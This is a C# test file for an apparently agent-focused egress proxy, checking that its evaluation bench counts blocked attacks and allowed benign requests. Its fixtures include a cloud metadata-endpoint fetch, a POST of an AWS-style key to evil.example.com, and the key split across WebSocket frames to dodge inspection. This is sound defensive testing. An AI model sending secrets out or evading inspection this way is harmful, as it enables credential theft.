using Palisade.Cli.Eval;
using Palisade.Core.Policy;
using Palisade.Tests.Support;

namespace Palisade.Tests.Gateway.Egress;

/// <summary>Issue 6 point 7: the proxy bench runs cases through the in-process proxy and counts what it stopped.</summary>
public sealed class EgressProxyEvalTests
{
    private static void Case(string root, string category, string id, string verdict, string inputType, string transport, string payload, string tags = "[]") =>
        File.WriteAllText(Directory.CreateDirectory(Path.Combine(root, "agent-egress-bench", "cases", category)).FullName + $"/{id}.json",
            $$"""{"schema_version":1,"id":"{{id}}","category":"{{category.Replace('-', '_')}}","input_type":"{{inputType}}","transport":"{{transport}}","payload":{{payload}},"expected_verdict":"{{verdict}}","capability_tags":{{tags}}}""");

    [Fact]
    public void Cases_are_sent_through_the_proxy_paths_and_counted()
    {
        using var dir = new CliRunner.TempDir();
        Case(dir.Path, "url", "u-block", "block", "url", "fetch_proxy", """{"method":"GET","url":"http://169.254.169.254/latest/meta-data/"}""");
        Case(dir.Path, "url", "u-allow", "allow", "url", "fetch_proxy", """{"method":"GET","url":"https://docs.example.com/guide"}""");
        Case(dir.Path, "request-body", "b-block", "block", "request_body", "http_proxy", """{"method":"POST","url":"https://evil.example.com/c","content_type":"text/plain","body":"key AKIAZ3MQ7TP4XJ2LKW5N"}""");
        Case(dir.Path, "websocket-dlp", "w-block", "block", "websocket_frame", "websocket", """{"url":"wss://example.com/ws","frames":[{"opcode":"text","fin":false,"payload":"AKIAZ3MQ7T"},{"opcode":"continuation","fin":true,"payload":"P4XJ2LKW5N"}]}""");
        Case(dir.Path, "websocket-dlp", "w-allow", "allow", "websocket_frame", "websocket", """{"url":"wss://example.com/ws","frames":[{"opcode":"text","payload":"hello"}]}""");
        Case(dir.Path, "mcp-tool", "not-ours", "block", "mcp_tool_definition", "mcp_stdio", """{"jsonrpc_messages":[]}""");

        var suite = EgressProxySuites.Run(dir.Path, PalisadeConfig.Default).First();
        Assert.Null(suite.Skipped);
        Assert.Equal(3, suite.Total.Attacks);
        Assert.Equal(3, suite.Total.AttacksFlagged);
        Assert.Equal(2, suite.Total.Benign);
        Assert.Equal(0, suite.Total.BenignFlagged);
        Assert.Contains(suite.Subsets, s => s.Subset == "path: ws relay" && s.AttacksFlagged == 1 && s.Benign == 1);
    }

    [Fact]
    public void A_domain_blocklist_case_has_its_host_on_the_deny_list_and_false_positive_cases_on_proxy_transports_run_apart()
    {
        using var dir = new CliRunner.TempDir();
        Case(dir.Path, "url", "listed", "block", "url", "fetch_proxy", """{"method":"GET","url":"https://drop.example.net/beacon"}""", """["domain_blocklist"]""");
        Case(dir.Path, "url", "unlisted", "allow", "url", "fetch_proxy", """{"method":"GET","url":"https://other.example.net/beacon"}""");
        Case(dir.Path, "false-positive", "fp-fetch", "allow", "url", "fetch_proxy", """{"method":"GET","url":"https://docs.example.com/a"}""");
        Case(dir.Path, "false-positive", "fp-stdio", "allow", "mcp_tool_call", "mcp_stdio", """{"jsonrpc_messages":[]}""");

        var suites = EgressProxySuites.Run(dir.Path, PalisadeConfig.Default).ToList();
        Assert.Equal((1, 1, 1, 0), (suites[0].Total.Attacks, suites[0].Total.AttacksFlagged, suites[0].Total.Benign, suites[0].Total.BenignFlagged));
        Assert.Contains(EgressProxySuites.FalsePositiveCategory, suites[1].Name);
        Assert.Equal((0, 1, 0), (suites[1].Total.Attacks, suites[1].Total.Benign, suites[1].Total.BenignFlagged));
    }

    [Fact]
    public void Without_the_corpus_the_suite_is_skipped_with_a_reason()
    {
        using var dir = new CliRunner.TempDir();
        var suite = Assert.Single(EgressProxySuites.Run(dir.Path, PalisadeConfig.Default));
        Assert.Contains("not found", suite.Skipped);
    }
}
